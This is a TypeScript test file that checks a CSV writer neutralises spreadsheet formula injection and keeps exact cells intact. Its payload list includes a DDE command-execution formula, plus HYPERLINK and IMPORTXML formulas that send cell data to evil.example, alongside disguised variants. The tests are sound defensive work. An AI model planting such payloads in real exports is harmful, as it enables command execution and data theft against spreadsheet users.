import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type CsvCell, csvLine } from './csv.ts';

/** Reads lines back as RFC 4180 says; each cell with whether it was quoted. */
function parse(text: string): { value: string; quoted: boolean }[][] {
  const rows: { value: string; quoted: boolean }[][] = [];
  let row: { value: string; quoted: boolean }[] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy;
  while (cell.lastIndex < text.length) {
    const [, quoted, bare, end] = cell.exec(text) ?? [];
    row.push({ value: quoted?.replaceAll('""', '"') ?? bare ?? '', quoted: quoted !== undefined });
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

/** What OWASP and the known write-ups of CSV injection list, and their disguises. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  '@SUM(1,1)',
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tplain',
  '\rplain',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
  '-5',
  '=',
  '-',
];

describe('R11: a cell of text', () => {
  it.each(formulas)('%j is no formula in a spreadsheet', (text) => {
    const [[cell] = []] = parse(csvLine([{ text }]));
    expect(cell?.quoted).toBe(true);
    expect(cell?.value).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
    expect(cell?.value.replace(/^'/, '')).toBe(text);
  });

  it('cannot be split by the separators of other locales', () => {
    expect(csvLine([{ text: 'a;=1+1' }, { text: 'b\t=1+1' }])).toBe('"a;=1+1","b\t=1+1"\r\n');
  });

  it.each(['plain', "it's", 'a,b', 'a"b', 'two\r\nlines', 'Ünïcode 한글', '1=1', 'a-b', ''])(
    '%j is only quoted',
    (text) => {
      expect(parse(csvLine([{ text }, { text: 'next' }]))).toEqual([
        [
          { value: text, quoted: true },
          { value: 'next', quoted: true },
        ],
      ]);
    },
  );

  it('comes back whatever it is, and never as a formula', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 5 }), (texts) => {
        const rows = parse(csvLine(texts.map((text) => ({ text }))));
        const [cells = []] = rows;
        expect(rows).toHaveLength(1);
        expect(cells.some(({ value }) => /^\s*[=+\-@＝＋－＠]/.test(value))).toBe(false);
        expect(
          cells.map(({ value }, index) => (value === `'${texts[index]}` ? texts[index] : value)),
        ).toEqual(texts);
      }),
      { numRuns: 500 },
    );
  });
});

describe('R11: an exact cell', () => {
  it.each(['-5', '0', '-0.000001', '123456789012345', '2026-03-01T00:00:00+05:45', 'true'])(
    '%s stays what it is',
    (exact) => {
      expect(csvLine([{ exact }, null, { exact }])).toBe(`${exact},,${exact}\r\n`);
    },
  );

  it.each(['=1', '1,5', '"', '1;2', '1 000', '@1'])('%j is refused: it is not one', (exact) => {
    const cell: CsvCell = { exact };
    expect(() => csvLine([cell])).toThrow(/not exact/);
  });
});
